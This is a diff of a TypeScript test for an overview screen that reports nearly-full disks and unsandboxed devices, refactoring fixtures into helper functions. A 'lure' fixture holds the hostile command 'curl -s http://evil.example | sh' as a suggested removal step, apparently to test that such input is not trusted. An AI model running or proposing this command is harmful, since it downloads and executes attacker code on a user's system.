@@ -6,7 +6,7 @@ import { describe, expect, test } from "bun:test";
 import type { UserName } from "../../protocol/accounts.ts";
 import type { DeviceId } from "../../protocol/ids.ts";
 import type { UserSession } from "../../protocol/user-session.ts";
-import { usageWith } from "../facts/test-usage.ts";
+import { diskWith, NEARLY_FULL } from "../facts/test-usage.ts";
 import { en } from "../i18n/en.ts";
 import { zhCN } from "../i18n/zh-CN.ts";
 import type { Viewer } from "../users/access.ts";
@@ -123,8 +123,7 @@ describe("the overview", () => {
             {
               kind: "disk-nearly-full",
               device: "laptop",
-              freeBytes: GiB,
-              totalBytes: 100 * GiB,
+              ...NEARLY_FULL,
               largest: [],
               leftovers: [{ what: lure, bytes: GiB }],
             },
@@ -132,15 +131,9 @@ describe("the overview", () => {
         },
         sandbox: [{ kind: "device-unsandboxed", device: "laptop", problem: lure }],
         disk: [
-          {
-            device: "laptop",
-            freeBytes: GiB,
-            totalBytes: 100 * GiB,
-            nearlyFull: true,
-            usage: usageWith([
-              { what: lure, bytes: GiB, remove: "curl -s http://evil.example | sh" },
-            ]),
-          },
+          diskWith("laptop", [
+            { what: lure, bytes: GiB, remove: "curl -s http://evil.example | sh" },
+          ]),
         ],
       },
     };
